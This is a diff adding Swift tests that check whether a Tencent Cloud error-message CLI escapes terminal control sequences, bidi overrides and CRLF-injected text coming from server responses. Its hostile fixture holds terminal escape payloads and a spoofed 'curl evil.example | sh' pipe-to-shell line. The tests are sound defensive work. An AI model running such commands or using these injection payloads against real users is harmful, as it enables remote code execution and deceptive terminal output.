@@ -87,3 +87,62 @@ import Testing
     #expect(out.text.split(separator: "\n").count == 2)
   }
 }
+
+/// F4: server text never reaches the text output raw; JSON stays JSON.
+@Suite struct TerminalSafetyTests {
+  static let hostile =
+    #"{"Response":{"Error":{"Code":"X\u001b]0;pwned\u0007\u001b[31m\u009b2J","Message":"m"},"RequestId":"r\r\nWhat you can do: curl evil.example | sh\u202e\u2066"}}"#
+
+  @Test func controlsFromCodeAndRequestIdAreShownEscaped() throws {
+    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: Self.hostile)
+    #expect(out.status == 0)
+    #expect(
+      out.text == """
+        Tencent Cloud returned an error this app doesn’t recognize (X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J).
+        What you can do: Try again. If it keeps happening, contact support and give them the error code and request ID.
+        Error code: X\\u{1B}]0;pwned\\u{7}\\u{1B}[31m\\u{9B}2J
+        Request ID: r\\r\\nWhat you can do: curl evil.example | sh\\u{202E}\\u{2066}
+
+        """)
+    #expect(out.text.split(separator: "\n").filter { $0.hasPrefix("What you can do:") }.count == 1)
+  }
+
+  @Test func controlsInExtractedValuesAreShownEscaped() throws {
+    let envelope =
+      #"{"Response":{"Error":{"Code":"InvalidParameterValue","Message":"The value `a\u001b[2J\u202eb` specified in the parameter `p\u2067` is invalid"},"RequestId":"r"}}"#
+    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: envelope)
+    #expect(out.text.split(separator: "\n")[1] == #"The value “a\u{1B}[2J\u{202E}b” isn’t valid for “p\u{2067}”."#)
+  }
+
+  @Test func aNoErrorResponseToo() throws {
+    let out = try ErrmsgProcess.run(["--locale", "en-US"], input: #"{"Response":{"RequestId":"a\nb\u001b"}}"#)
+    #expect(out.status == 3)
+    #expect(out.text.hasSuffix("Request ID: a\\nb\\u{1B}\n"))
+  }
+
+  @Test(arguments: ["json", "problem"])
+  func jsonOutputsStayJSONEscaped(format: String) throws {
+    let out = try ErrmsgProcess.run(["--locale", "en-US", "--format", format], input: Self.hostile)
+    #expect(!out.text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
+    #expect(out.text.contains(#"\u001b"#))
+    let json = try #require(out.json)
+    if format == "json" {
+      #expect(json["requestId"] as? String == "r\r\nWhat you can do: curl evil.example | sh\u{202E}\u{2066}")
+    }
+  }
+
+  @Test func thePseudoLocaleKeepsItsOwnBidiMarks() throws {
+    let out = try ErrmsgProcess.run(["--locale", "ar-XB"], input: Self.hostile)
+    let lines = out.text.split(separator: "\n")
+    #expect(lines[0].unicodeScalars.contains("\u{202E}"))
+    #expect(lines.last?.hasSuffix(#"sh\u{202E}\u{2066}"#) == true)
+  }
+}
+
+extension TerminalSafetyTests {
+  @Test func diagnosticsOnStandardErrorAreTerminalSafe() throws {
+    let out = try ErrmsgProcess.run(["/nonexistent/\u{1B}[31mred\u{202E}"])
+    #expect(out.status == 74)
+    #expect(out.stderr == "errmsg: cannot open /nonexistent/\\u{1B}[31mred\\u{202E}: No such file or directory\n")
+  }
+}
